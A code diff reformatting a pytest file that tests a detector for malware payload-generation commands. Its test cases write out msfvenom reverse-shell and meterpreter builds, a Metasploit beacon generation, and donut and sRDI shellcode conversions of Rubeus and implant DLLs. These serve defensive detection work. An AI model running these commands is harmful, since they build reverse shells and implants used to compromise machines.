@@ -11,11 +11,20 @@ from tests.detectors._attack import LONG, SPACES, fenced, scan, seconds
 @pytest.mark.parametrize(
     ("body", "kind"),
     [
-        ("msfvenom -p windows/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4242 -f exe > shell.exe", "msfvenom"),
-        ("msfvenom --payload linux/x86/meterpreter/reverse_tcp LHOST=10.0.0.1 -f elf -o shell.elf", "msfvenom"),
+        (
+            "msfvenom -p windows/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4242 -f exe > shell.exe",
+            "msfvenom",
+        ),
+        (
+            "msfvenom --payload linux/x86/meterpreter/reverse_tcp LHOST=10.0.0.1 -f elf -o shell.elf",
+            "msfvenom",
+        ),
         ("msfvenom -a x86 --platform windows -e x86/shikata_ga_nai -i 5 -f c", "msfvenom"),
         ("msfpayload windows/shell_bind_tcp LPORT=4444 X > bind.exe", "msfpayload"),
-        ("msf6 > use payload/windows/x64/meterpreter_reverse_https\nmsf6 payload(windows/x64/meterpreter_reverse_https) > generate -f exe -o beacon.exe", "Metasploit generate"),
+        (
+            "msf6 > use payload/windows/x64/meterpreter_reverse_https\nmsf6 payload(windows/x64/meterpreter_reverse_https) > generate -f exe -o beacon.exe",
+            "Metasploit generate",
+        ),
         ("donut -i Rubeus.exe -a 2 -f 1 -o loader.bin", "donut"),
         ("./donut.exe -f 7 -o shellcode.cs implant.dll", "donut"),
         ("python3 ConvertToShellcode.py -f ReflectiveLoader implant.dll", "sRDI"),
@@ -34,7 +43,9 @@ def test_generation_commands_are_strong(body: str, kind: str) -> None:
 
 
 def test_one_finding_per_block_however_many_commands() -> None:
-    body = "\n".join(f"msfvenom -p linux/x64/shell_reverse_tcp LPORT={port} -f elf" for port in range(4000, 4010))
+    body = "\n".join(
+        f"msfvenom -p linux/x64/shell_reverse_tcp LPORT={port} -f elf" for port in range(4000, 4010)
+    )
     hits = scan(DETECTOR, fenced(body, "bash"))
     assert [h.line for h in hits] == [4]
 
